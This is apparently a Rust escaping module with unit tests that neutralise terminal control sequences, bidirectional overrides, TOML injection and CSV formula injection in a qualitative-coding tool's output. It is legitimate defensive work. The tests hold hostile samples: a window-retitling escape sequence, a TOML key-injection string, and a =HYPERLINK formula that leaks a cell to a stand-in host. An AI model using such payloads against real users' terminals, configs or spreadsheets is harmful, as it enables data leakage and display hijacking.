//! Escaping for every place text from input goes out: text of documents, file names, code
//! names from an imported dictionary in; the same text made inert for its destination out — a
//! TOML string or comment ([`toml_string`], [`toml_comment`]), a CSV cell ([`csv_cell`]), a
//! line on a terminal ([`terminal`], printed by [`outln!`], [`errln!`] and [`print_lines`]).
//!
//! One function per destination, used everywhere: the crate's lints refuse `println!` and
//! `eprintln!` outside this module (`clippy::disallowed_macros`), so nothing reaches stdout or
//! stderr without passing [`terminal`].

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether `c` changes how a terminal or an editor shows the text rather than being text: the
/// C0 and C1 control characters and DEL (ESC starts the sequences that set colours, move the
/// cursor and retitle the window), and the bidirectional embeddings, overrides and isolates
/// (which reorder what follows them on screen, "Trojan Source"). Tab is not among them.
fn is_hidden(c: char) -> bool {
    (c.is_control() && c != '\t') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `text` with every [`is_hidden`] character written as a Rust-style escape (`\n`, `\r`, `\0`,
/// `\u{1b}`), on one line. A backslash is left as it is, so escaping twice changes nothing.
fn visible(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_hidden) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\0' => out.push_str("\\0"),
            c if is_hidden(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Text for one line of a terminal: control characters (escape sequences, carriage returns,
/// line breaks, bells) and bidirectional overrides shown as escapes, so a document or a file
/// name cannot recolour, retitle or rewrite the screen, nor start a line of its own.
pub fn terminal(text: &str) -> Cow<'_, str> {
    visible(text)
}

/// A TOML string, quotes included, that stays one value whatever the text — a code name with
/// line breaks included: a literal string (`'\b\w*trust\b'`, as regexes read best) when the
/// text has a backslash and can be one, otherwise a basic string with `"`, `\` and every
/// control character escaped (and the bidirectional overrides, so an editor shows them).
pub fn toml_string(text: &str) -> String {
    if text.contains('\\') && !text.contains('\'') && !text.chars().any(is_hidden) {
        return format!("'{text}'");
    }
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if is_hidden(c) => {
                let _ = write!(out, "\\u{:04X}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Text to put after `# ` on one line of TOML: line breaks and other control characters
/// shown as escapes, so nothing after them can leave the comment and become a key.
pub fn toml_comment(text: &str) -> Cow<'_, str> {
    visible(text)
}

/// Characters that make a spreadsheet (Excel, LibreOffice Calc, Google Sheets) read a cell as
/// a formula when they start it (OWASP, "CSV Injection"; ASVS 1.2.10 adds NUL), and their
/// fullwidth forms, which some locales' spreadsheets read the same way.
const FORMULA_STARTS: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\0', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];

/// A text cell for a CSV file, neutralised as OWASP recommends: a cell that starts with a
/// character a spreadsheet would read as the start of a formula gets a single quote in front
/// (`=HYPERLINK(…)` becomes `'=HYPERLINK(…)`, shown as text). The CSV writer quotes every
/// text cell and doubles its quotes (see [`csv_writer`]). Numbers written by qualcode are
/// not passed through this.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text of a cell [`csv_cell`] wrote, read back from a sheet: the quote it put in front
/// taken off (a cell that starts with a quote otherwise keeps it).
pub fn csv_cell_text(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// The CSV writer for every CSV qualcode writes: every cell that is not a number in double
/// quotes, quotes inside doubled (RFC 4180). Text cells go through [`csv_cell`].
pub fn csv_writer<W: std::io::Write>(writer: W) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::NonNumeric)
        .from_writer(writer)
}

/// Prints one line on stdout through [`terminal`] (a line break inside shown as `\n`).
#[allow(clippy::disallowed_macros)]
pub fn out_line(line: &str) {
    println!("{}", terminal(line));
}

/// Prints one line on stderr through [`terminal`] (a line break inside shown as `\n`).
#[allow(clippy::disallowed_macros)]
pub fn err_line(line: &str) {
    eprintln!("{}", terminal(line));
}

/// Prints text of several lines that qualcode composed (an account, a report, a codebook) on
/// stdout, each line through [`terminal`]. Text from input inside it must already be on one
/// line (through [`terminal`] or [`toml_string`]), or its line breaks would start lines here.
#[allow(clippy::disallowed_macros)]
pub fn print_lines(text: &str) {
    let text = text.strip_suffix('\n').unwrap_or(text);
    for line in text.split('\n') {
        println!("{}", terminal(line));
    }
}

/// [`print_lines`] on stderr.
#[allow(clippy::disallowed_macros)]
pub fn eprint_lines(text: &str) {
    let text = text.strip_suffix('\n').unwrap_or(text);
    for line in text.split('\n') {
        eprintln!("{}", terminal(line));
    }
}

/// A line of a line-by-line listing whose parts are already [`terminal`]-escaped, with
/// qualcode's own colour codes around some of them (`kwic` on a terminal).
#[allow(clippy::disallowed_macros)]
pub fn out_styled(line: &str) {
    println!("{line}");
}

/// `println!` through [`terminal`]: one line on stdout, control characters shown.
#[macro_export]
macro_rules! outln {
    ($($arg:tt)*) => {
        $crate::escape::out_line(&format!($($arg)*))
    };
}

/// `eprintln!` through [`terminal`]: one line on stderr, control characters shown.
#[macro_export]
macro_rules! errln {
    ($($arg:tt)*) => {
        $crate::escape::err_line(&format!($($arg)*))
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_shows_escape_sequences_line_breaks_and_overrides() {
        assert_eq!(terminal("plain text, tab\there"), "plain text, tab\there");
        assert_eq!(
            terminal("a\u{1b}]0;PWNED\u{7}b\u{1b}[31mred"),
            "a\\u{1b}]0;PWNED\\u{7}b\\u{1b}[31mred"
        );
        assert_eq!(terminal("one\ntwo\rthree\0"), "one\\ntwo\\rthree\\0");
        assert_eq!(terminal("\u{9b}2J \u{7f}"), "\\u{9b}2J \\u{7f}");
        assert_eq!(terminal("abc\u{202e}fed"), "abc\\u{202e}fed");
        // Escaping twice changes nothing; other scripts are left alone.
        let once = terminal("x\u{1b}y").into_owned();
        assert_eq!(terminal(&once), once);
        assert_eq!(terminal("信任 Доверие ثقة"), "信任 Доверие ثقة");
    }

    #[test]
    fn toml_strings_and_comments_stay_one_value_and_one_line() {
        let hostile = "x\"\n[[codes]]\nid = 'all'\n[[codes.rules]]\nregex = '\\w+'\u{1b}\u{202e}";
        let line = format!(
            "label = {}\n# {}\n",
            toml_string(hostile),
            toml_comment(hostile)
        );
        let parsed: toml::Table = toml::from_str(&line).expect("valid TOML");
        assert_eq!(parsed.len(), 1, "{line}");
        assert_eq!(parsed["label"].as_str(), Some(hostile));
        assert_eq!(line.lines().count(), 2, "{line}");
        assert_eq!(toml_string("tab\there"), "\"tab\\there\"");
        assert_eq!(toml_string(r"\b\w*trust\b"), r"'\b\w*trust\b'");
        assert_eq!(toml_string(r"it's \w"), r#""it's \\w""#);
    }

    #[test]
    fn csv_cells_that_would_be_formulas_are_text() {
        for formula in [
            "=HYPERLINK(\"http://x?leak=\"&A1)",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "＝1+1",
        ] {
            assert_eq!(csv_cell(formula), format!("'{formula}"));
        }
        assert_eq!(csv_cell("trust =1"), "trust =1");
        assert_eq!(csv_cell_text(&csv_cell("-3 dB")), "-3 dB");
        assert_eq!(csv_cell_text("'quoted"), "'quoted");
        assert_eq!(csv_cell(""), "");
        let mut writer = csv_writer(Vec::new());
        writer
            .write_record([csv_cell("=1+1").as_ref(), "a \"b\"", "3"])
            .expect("write");
        let bytes = writer.into_inner().expect("flush");
        assert_eq!(
            String::from_utf8(bytes).expect("utf-8"),
            "\"'=1+1\",\"a \"\"b\"\"\",3\n"
        );
    }
}
